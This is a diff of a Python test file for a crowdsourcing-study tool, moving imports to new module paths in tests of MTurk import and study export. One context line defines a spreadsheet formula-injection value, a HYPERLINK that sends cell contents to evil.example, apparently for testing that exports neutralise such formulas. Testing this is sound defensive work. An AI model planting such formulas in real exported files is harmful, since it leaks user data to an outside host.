@@ -13,8 +13,8 @@ from click.testing import CliRunner
 from hitkit.cli import main
 from hitkit.db.session import session_scope
 from hitkit.imports.mturk import import_mturk
-from hitkit.security import FORMULA_TRIGGERS
-from hitkit.study import StudyContext, resolve_secret
+from hitkit.worker.security import FORMULA_TRIGGERS
+from hitkit.study.stored import StudyContext, resolve_secret
 from tests.test_import_mturk import write_batch, write_mapping
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
@@ -64,7 +64,7 @@ def test_import_mturk_refuses_deep_json_answers_with_a_message_not_a_traceback(t
 
 
 def _export(database_url, out):
-    from hitkit.export import export_study
+    from hitkit.tables.export import export_study
 
     with session_scope(database_url) as s:
         return export_study(s, StudyContext.load(s, "ab-demo", resolve_secret(database_url)), out, "both")
@@ -85,8 +85,8 @@ def _full_disk_after(monkeypatch, kept: int):
 
 
 def test_an_export_that_fails_half_way_leaves_the_previous_files_or_none(tmp_path, one_database_url, monkeypatch):
-    from hitkit.config import load_study
-    from hitkit.study import create_study
+    from hitkit.study.config import load_study
+    from hitkit.study.stored import create_study
     from tests.test_provider_panel import (
         panel_study,  # any study with rows: a panel one is quick to fill
     )
@@ -115,7 +115,7 @@ def test_an_export_that_fails_half_way_leaves_the_previous_files_or_none(tmp_pat
     def failing_dump(*args, **kwargs):
         raise OSError(errno.ENOSPC, "No space left on device")
 
-    monkeypatch.setattr("hitkit.export.json.dumps", failing_dump)  # conversations.jsonl, study.json
+    monkeypatch.setattr("hitkit.tables.export.json.dumps", failing_dump)  # conversations.jsonl, study.json
     with pytest.raises(OSError):
         _export(one_database_url, out)
     assert {p.name: p.read_bytes() for p in out.iterdir()} == before
